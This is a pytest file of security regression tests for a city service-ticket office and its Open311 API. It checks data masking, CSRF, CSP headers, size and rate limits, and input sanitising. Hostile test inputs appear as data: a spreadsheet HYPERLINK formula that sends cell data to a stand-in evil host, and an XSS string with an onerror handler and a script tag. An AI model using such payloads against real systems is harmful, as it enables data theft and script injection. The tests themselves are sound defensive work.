"""The attack run against the office and Open311, as tests: each defect it found stays fixed."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import AsyncIterator
from datetime import timedelta

import httpx
import pytest
from openpyxl import load_workbook

from handlers import texts
from models.tables import Ticket

from .harness import Harness
from .office import API_KEY, asgi, client, csrf, office_harness, office_with_grids, post_form, sign_in

pytestmark = pytest.mark.usefixtures("group_privacy")

PHONE = "13912345678"
FORM = {
    "api_key": API_KEY,
    "service_code": "road",
    "lat": "29.3451",
    "long": "120.0752",
    "description": "人行道地砖松动，老人容易绊倒",
}


@pytest.fixture
async def web(db_url: str) -> AsyncIterator[Harness]:
    """The office and Open311 on, grid siji-1 with workers w1 and w2 (and jingfa-1 with j1)."""
    async with office_with_grids(db_url, jingfa=True) as h:
        yield h


async def test_open311_masks_rejection_reasons(web: Harness) -> None:
    """A rejection reason naming a phone and a door is masked in Open311, as on the progress page."""
    tid = await web.quick_report()
    await web.say(f"admin: /reject {tid} 经核实，车主王建国（电话{PHONE}，住现代花园3幢201室）已挪车")
    async with client(web) as http:
        [one] = (await http.get(f"/open311/v2/requests/{tid}.json")).json()
        listed = (await http.get("/open311/v2/requests.json")).json()
        xml = (await http.get(f"/open311/v2/requests/{tid}.xml")).text
    for notes in (one["status_notes"], *(r["status_notes"] for r in listed), xml):
        assert PHONE not in notes and "3幢" not in notes and "201室" not in notes
    assert one["status_notes"].startswith("已驳回：经核实") and "***********" in one["status_notes"]


async def test_a_large_body_is_refused_before_anything_reads_it(web: Harness) -> None:
    """A POST announcing 100 MB gets 413 at once, whatever cookie it carries; a small stream passes."""
    read: list[int] = []

    async def body() -> AsyncIterator[bytes]:
        for _ in range(3):
            read.append(1)
            yield b"x" * 1024

    async with client(web) as http:
        for path in ("/office/tickets/1/note", "/office/logout", "/open311/v2/requests.json"):
            big = await http.post(
                path,
                content=b"",
                headers={"Content-Length": str(100 * 1024 * 1024), "Cookie": "jiesu_session=junk"},
            )
            assert big.status_code == 413, path
        streamed = await http.post("/office/logout", content=body())
        assert streamed.status_code == 200 and read == [1, 1, 1]

        async def endless() -> AsyncIterator[bytes]:
            for _ in range(100):
                read.append(2)
                yield b"x" * 65536

        flood = await http.post(
            "/office/tickets/1/note", content=endless(), headers={"Cookie": "jiesu_session=junk"}
        )
        assert flood.status_code == 413 and read.count(2) < 20  # stopped at the limit, not at 6 MB


async def test_exports_neutralise_formulas_and_mask_phones(web: Harness) -> None:
    """A description starting with = stays text in xlsx and CSV; phones and doors never leave in them."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    a = await web.quick_report("r1", description=evil)
    b = await web.quick_report("r2", description=f"楼道灯坏了，请打{PHONE}找我，住3幢201室")
    async with client(web) as http:
        await sign_in(web, http, "admin")
        xlsx = await http.get("/office/tickets.xlsx")
        text_csv = (await http.get("/office/tickets.csv")).content.decode("utf-8-sig")
    ws = load_workbook(io.BytesIO(xlsx.content)).active
    assert ws is not None
    cells = {row[0].value: row[5] for row in ws.iter_rows(min_row=2)}
    assert cells[a].data_type == "s" and cells[a].value == "'" + evil
    assert PHONE not in str(cells[b].value) and "201室" not in str(cells[b].value)
    rows = {int(r[0]): r[5] for r in list(csv.reader(io.StringIO(text_csv)))[1:]}
    assert rows[a] == "'" + evil and PHONE not in text_csv and "3幢" not in text_csv


async def test_phones_in_descriptions_only_for_the_handler_and_admins(web: Harness) -> None:
    """A worker who does not handle the ticket reads it masked; the handler and the admin in full."""
    tid = await web.quick_report(description=f"楼道灯坏了，请打{PHONE}找我")
    await web.say(f"admin: /assign {tid} w1")
    await web.say(f"w1: /note {tid} 居民说也可打{PHONE}")
    async with client(web) as http:
        await sign_in(web, http, "w2")
        page = (await http.get(f"/office/tickets/{tid}")).text
        listed = (await http.get("/office/tickets")).text
        assert page.count("楼道灯坏了") >= 1 and "居民说也可打" in page
        assert PHONE not in page and PHONE not in listed
    for who in ("w1", "admin"):
        async with client(web) as http:
            await sign_in(web, http, who)
            assert PHONE in (await http.get(f"/office/tickets/{tid}")).text, who


async def test_every_answer_carries_the_security_headers(web: Harness) -> None:
    """Pages, the progress page, Open311 and errors forbid framing and sniffing; no HSTS over http."""
    async with client(web) as http:
        await sign_in(web, http, "admin")
        for path in ("/office/tickets", "/office/map", "/t/nothing", "/open311/v2/services.json", "/nope"):
            h = (await http.get(path)).headers
            policy = h["content-security-policy"]
            assert "frame-ancestors 'none'" in policy and "script-src 'self' 'nonce-" in policy, path
            assert h["x-frame-options"] == "DENY" and h["x-content-type-options"] == "nosniff", path
            assert (
                h["referrer-policy"] in ("same-origin", "no-referrer")
                and "strict-transport-security" not in h
            )


async def test_inline_scripts_carry_the_nonce_of_their_answer(web: Harness) -> None:
    """The map's inline script runs under the CSP: it carries the answer's own nonce."""
    async with client(web) as http:
        await sign_in(web, http, "admin")
        page = await http.get("/office/map")
    nonce = re.search(r"'nonce-([^']+)'", page.headers["content-security-policy"])
    assert nonce and f'<script nonce="{nonce.group(1)}">' in page.text


async def test_https_adds_hsts(db_url: str) -> None:
    """Behind an https base URL every answer carries Strict-Transport-Security."""
    h = await office_harness(db_url, base="https://jiesu.example.org")
    try:
        transport = httpx.ASGITransport(app=asgi(h))
        async with httpx.AsyncClient(transport=transport, base_url="https://testserver") as http:
            answer = await http.get("/office/tickets")
        assert answer.headers["strict-transport-security"].startswith("max-age=")
    finally:
        h.close()


async def test_csrf_token_is_bound_to_the_session_and_bearer_exempts_nothing(web: Harness) -> None:
    """Another session's token, or a Bearer header instead of a token, changes nothing."""
    tid = await web.quick_report()
    async with client(web) as attacker, client(web) as victim:
        await sign_in(web, attacker, "w2")
        theirs = csrf((await attacker.get("/office/tickets")).text)
        await sign_in(web, victim, "admin")
        mine = csrf((await victim.get("/office/tickets")).text)
        assert theirs != mine
        crossed = await victim.post(
            f"/office/tickets/{tid}/reject", data={"reason": "重复", "csrftoken": theirs}
        )
        bearer = await victim.post(
            f"/office/tickets/{tid}/reject", data={"reason": "重复"}, headers={"Authorization": "Bearer x"}
        )
        assert crossed.status_code == bearer.status_code == 403 and texts.WEB_FORM_FORGED in crossed.text
    assert web.ticket(tid).status == "open"


ODD_GETS = (
    "/office/tickets/99999999999999999999999999",
    "/office/tickets/99999999999999999999999999/photo/report",
    "/office/tickets?handler=99999999999999999999999999",
    "/office/tickets?page=99999999999999999999999999&community=99999999999999999999",
    "/open311/v2/requests.json?service_request_id=99999999999999999999999999",
    "/open311/v2/requests/99999999999999999999999999.json",
)


async def test_odd_input_gets_400_or_404_not_500(web: Harness) -> None:
    """Huge ids in paths and queries, and a POST body that is not UTF-8, get a clear 4xx."""
    await web.quick_report()
    async with client(web) as http:
        await sign_in(web, http, "admin")
        for path in ODD_GETS:
            assert (await http.get(path)).status_code in (400, 404), path
        page = await http.get("/office/tickets/1")
        body = b"csrftoken=" + csrf(page.text).encode() + b"&note=\xff\xfe\xfa"
        form = {"Content-Type": "application/x-www-form-urlencoded"}
        assert (await http.post("/office/tickets/1/note", content=body, headers=form)).status_code in (
            400,
            403,
        )
        odd = b"api_key=" + API_KEY.encode() + b"&service_code=road&description=\xff\xfe\xfa\xfb"
        assert (await http.post("/open311/v2/requests.json", content=odd, headers=form)).status_code == 400
        too_big = await http.post(
            "/office/tickets/99999999999999999999/note", data={"csrftoken": csrf(page.text), "note": "x"}
        )
        assert too_big.status_code == 404


async def test_success_banner_comes_from_the_server_only(web: Harness) -> None:
    """A crafted ?done=…&detail=… shows no banner; a real action's banner shows once."""
    tid = await web.quick_report()
    await web.say(f"w1: 抢单 {tid}")
    async with client(web) as http:
        await sign_in(web, http, "admin")
        spoof = await http.get(f"/office/tickets/{tid}?done=move&detail=请拨打400-123-4567领取补贴")
        assert "400-123-4567" not in spoof.text and 'class="flash' not in spoof.text
        done = await post_form(
            http, f"/office/tickets/{tid}", f"/office/tickets/{tid}/note", {"note": "已联系"}
        )
        assert done.status_code == 303 and "?" not in done.headers["location"]
        shown = await http.get(done.headers["location"])
        assert texts.WEB_DONE["note"].format(id=tid, detail="") in shown.text
        again = await http.get(done.headers["location"])
        assert texts.WEB_DONE["note"].format(id=tid, detail="") not in again.text


async def test_open311_rate_limit_per_key(web: Harness) -> None:
    """Past the key's limit a POST gets 429 in GeoReport's error list and files nothing."""
    web.app.config.open311.rate_limit = "5/minute"
    async with client(web) as http:
        answers = [await http.post("/open311/v2/requests.json", data=FORM) for _ in range(8)]
    assert [a.status_code for a in answers] == [201] * 5 + [429] * 3
    [err] = answers[-1].json()
    assert err["code"] == 429 and "5/minute" in err["description"]
    assert web.count(Ticket) == 5


async def test_open311_checks_jurisdiction_territory_html_and_length(web: Harness) -> None:
    """A wrong jurisdiction_id in the body, a point in Shanghai, HTML and 4,000 characters."""
    web.app.config.open311.jurisdiction_id = "beiyuan"
    async with client(web) as http:
        wrong = await http.post("/open311/v2/requests.json", data={**FORM, "jurisdiction_id": "shanghai"})
        assert wrong.status_code == 404
        shanghai = await http.post(
            "/open311/v2/requests.json", data={**FORM, "lat": "31.2304", "long": "121.4737"}
        )
        assert shanghai.status_code == 400
        assert shanghai.json()[0]["description"] == texts.OUT_OF_AREA.format(subdistrict="北苑街道")
        html = "<img src=x onerror=alert(1)><b>井盖</b>缺失 a < b <script>steal()</script>"
        made = await http.post("/open311/v2/requests.json", data={**FORM, "description": html})
        assert made.status_code == 201, made.text
        [one] = (await http.get(f"/open311/v2/requests/{made.json()[0]['service_request_id']}.json")).json()
        assert one["description"] == "井盖缺失 a < b"
        long = await http.post("/open311/v2/requests.json", data={**FORM, "description": "路" * 4000})
        assert long.status_code == 201
        longer = await http.post("/open311/v2/requests.json", data={**FORM, "description": "路" * 4001})
        assert longer.status_code == 400
    assert web.count(Ticket) == 2


async def test_session_idle_timeout_is_idle_and_absolute_limit_holds(web: Harness) -> None:
    """The cookie outlives 8 h of activity; a day after signing in the session ends however active."""
    async with client(web) as http:
        signed = await sign_in(web, http, "admin")
        cookie = signed.history[0].headers["set-cookie"]
        assert "Max-Age=86400" in cookie
        for _ in range(3):
            web.clock.advance(timedelta(hours=7))
            assert (await http.get("/office/tickets")).status_code == 200
        web.clock.advance(timedelta(hours=3, minutes=1))
        gone = await http.get("/office/tickets")
        assert gone.status_code == 401 and texts.WEB_SESSION_GONE in gone.text
